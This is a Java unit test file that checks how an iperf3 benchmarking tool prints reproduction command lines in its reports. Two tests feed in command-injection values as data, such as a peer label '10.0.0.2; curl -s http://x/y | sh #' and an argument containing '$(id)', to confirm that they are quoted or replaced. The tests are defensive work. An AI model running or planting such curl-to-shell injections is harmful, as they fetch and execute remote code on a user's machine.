package com.burstline.server.report;

import com.burstline.contract.Direction;

import com.burstline.contract.Protocol;

import com.burstline.contract.Iperf3Command;
import com.burstline.contract.Scenario;
import com.burstline.server.run.RunEnvironment;
import com.burstline.server.run.RunSummary;
import com.burstline.server.run.TestRuns;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;

import java.time.Instant;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The peer's line names the program its end ran, which each agent chose for itself ({@code tool: auto}): EngineJobIT's
 * TCP download, an engine client on a host without iperf3 against the peer's stock iperf3 server, and the reverse.
 */
class CommandLinesTest {
    private static final JsonMapper JSON = JsonMapper.builder().build();
    /** What the SUT's agent starts for EngineJobIT's download, as it records it. */
    private static final List<String> ENGINE_CLIENT = Iperf3Command.engineClient(new Iperf3Command.Client(
            "10.82.0.2", 5201, Scenario.of(Protocol.TCP, Direction.DOWNLOAD).durationSeconds(4).omitSeconds(1)
                    .build(), true));

    @Test
    void anEngineClientsPeerThatRanIperf3GetsIperf3sServerLine() {
        List<String> lines = linesOf(run("burstline-java", "0.1.0", "iperf3", "3.12"), ENGINE_CLIENT);

        assertThat(lines).containsExactly("iperf3 -s -p 5201 -1    # on tool-b", String.join(" ", ENGINE_CLIENT));
    }

    @Test
    void anIperf3ClientsPeerThatRanTheEngineGetsTheEnginesServerLine() {
        List<String> lines = linesOf(run("iperf3", "3.12", "burstline-java", "0.1.0"),
                Iperf3Command.client("/usr/bin/iperf3", new Iperf3Command.Client("10.82.0.2", 5201,
                        Scenario.of(Protocol.TCP, Direction.DOWNLOAD).durationSeconds(4).omitSeconds(1)
                                .build(), false)));

        assertThat(lines.get(0)).isEqualTo("java -jar burstline-agent.jar iperf3 -s -p 5201 -1    # on tool-b");
    }

    @Test
    void aPeerWhoseToolWasNotRecordedGetsTheClientsToolAsAGuessThatSaysSo() {
        assertThat(linesOf(run("burstline-java", "0.1.0", null, null), ENGINE_CLIENT).get(0)).isEqualTo(
                "java -jar burstline-agent.jar iperf3 -s -p 5201 -1    # on tool-b (its tool was not recorded)");
        assertThat(linesOf(run("iperf3", "3.12", null, null), List.of()).get(0))
                .isEqualTo("iperf3 -s -p 5201 -1    # on tool-b (its tool was not recorded)");
    }

    @Test
    void aStockIperf3ServerInTextModeIsKnownWithoutItsVersion() {
        assertThat(linesOf(run("burstline-java", "0.1.0", "iperf3", null), ENGINE_CLIENT).get(0))
                .isEqualTo("iperf3 -s -p 5201 -1    # on tool-b");
    }

    /** The issue's relabelled peer: pasted as it was printed before, the shell ran curl. */
    @Test
    void aPeerLabelThatIsNoHostIsPrintedAsAPlaceholderWithANote() {
        List<String> lines = linesOf(run("10.0.0.2; curl -s http://x/y | sh #"), List.of());

        assertThat(lines).containsExactly("iperf3 -s -p 5201 -1    # on the peer (its tool was not recorded)",
                "iperf3 -c <peer> -p 5201 -R -t 4 -O 1 --get-server-output --json-stream    # <peer>: the run's peer label is "
                        + "not a host name or IP address; put the peer's address here");
        assertThat(linesOf(run("peer\ncurl -s http://x/y | sh"), List.of())).noneMatch(line -> line.contains("curl")
                || line.contains("\n"));
        assertThat(linesOf(run("2001:db8::2"), List.of()).get(1)).startsWith("iperf3 -c 2001:db8::2 -p 5201 -R");
        assertThat(linesOf(run(null), List.of()).get(1)).as("no peer recorded: the placeholder, nothing to explain")
                .isEqualTo("iperf3 -c <peer> -p 5201 -R -t 4 -O 1 --get-server-output --json-stream");
    }

    @Test
    void anAgentsArgumentsAreEachShellQuotedAndALineBreakIsNeverPrinted() {
        List<String> quoted = linesOf(run("tool-b"), List.of("/usr/bin/iperf3", "-c", "a b'c$(id)", "-t", "4"));
        assertThat(quoted.get(1)).isEqualTo("/usr/bin/iperf3 -c 'a b'\\''c$(id)' -t 4");

        List<String> broken = linesOf(run("tool-b"), List.of("/usr/bin/iperf3", "-c", "10.0.0.2\ncurl x | sh"));
        assertThat(broken.get(1)).as("rebuilt from the summary instead")
                .isEqualTo("iperf3 -c tool-b -p 5201 -R -t 4 -O 1 --get-server-output --json-stream");
    }

    /** The seed's uploads: each scenario on a port of its own, past the one an agent's line already uses. */
    @Test
    void uploadedScenariosGetDistinctPortsAndRepeatsShareTheirs() {
        RunSummary download = run("tool-b");
        RunSummary repeat = withId(download, 12);
        RunSummary other = TestRuns.from(download).id(13).peerTool(null, null).format("json")
                .scenario(Direction.UPLOAD, 4, 4, 0).build();
        RunSummary measured = withId(download, 14);
        RunEnvironment agent = new RunEnvironment(14, 3L, null, null, JSON.valueToTree(List.of("/usr/bin/iperf3", "-c",
                "10.0.0.2", "-p", "5202", "-R", "-t", "4")));

        List<String> lines = CommandLines.of(List.of(download, repeat, other, measured), Map.of(14L, agent));

        assertThat(lines).containsExactly("iperf3 -s -p 5201 -1    # on tool-b (its tool was not recorded)",
                "iperf3 -s -p 5203 -1    # on tool-b (its tool was not recorded)",
                "iperf3 -s -p 5202 -1    # on tool-b (its tool was not recorded)",
                "iperf3 -c tool-b -p 5201 -R -t 4 -O 1 --get-server-output --json-stream",
                "iperf3 -c tool-b -p 5203 -P 4 -t 4 --get-server-output -J",
                "/usr/bin/iperf3 -c 10.0.0.2 -p 5202 -R -t 4");
    }

    /** iperf3 takes -t 86400, a job at most an hour: the upload's line is still its own. */
    @Test
    void anUploadLongerThanAJobMayStillGetsItsLine() {
        RunSummary day = run("tool-b");
        RunSummary longRun = TestRuns.from(day).id(15).peerTool(null, null).scenario(Direction.UPLOAD, 1, 86_400, 0)
                .build();

        assertThat(linesOf(longRun, List.of()).get(1)).contains("-t 86400").doesNotStartWith("#");
    }

    private static RunSummary withId(RunSummary run, long id) {
        return TestRuns.from(run).id(id).peerTool(null, null).build();
    }

    private static RunSummary run(String peer) {
        RunSummary run = run("iperf3", "3.12", null, null);
        return TestRuns.from(run).labels(run.labels().sut(), peer, null, null, List.of()).peerTool(null, null)
                .build();
    }

    private static List<String> linesOf(RunSummary run, List<String> command) {
        RunEnvironment environment = new RunEnvironment(run.id(), 3L, null, null,
                command.isEmpty() ? null : JSON.valueToTree(command));
        return CommandLines.of(List.of(run), Map.of(run.id(), environment));
    }

    /** EngineJobIT's TCP download (4 s, 1 s omitted) between tool-a and tool-b, with both ends' tools. */
    private static RunSummary run(String tool, String version, String peerTool, String peerVersion) {
        return TestRuns.of("iperf3-322-tcp-1-download-loopback.json").id(11)
                .labels("tool-a", "tool-b", null, null, List.of()).tool(tool, version).peerTool(peerTool, peerVersion)
                .format("json-stream").times(Instant.parse("2026-12-01T09:00:00Z"),
                        Instant.parse("2026-12-01T09:00:06Z")).scenario(Direction.DOWNLOAD, 1, 4, 1).target(null)
                .rates(9.4e8, 9.4e8).retransmits(null).cpu(20.0, 30.0).intervals(8).job(3L).build();
    }
}
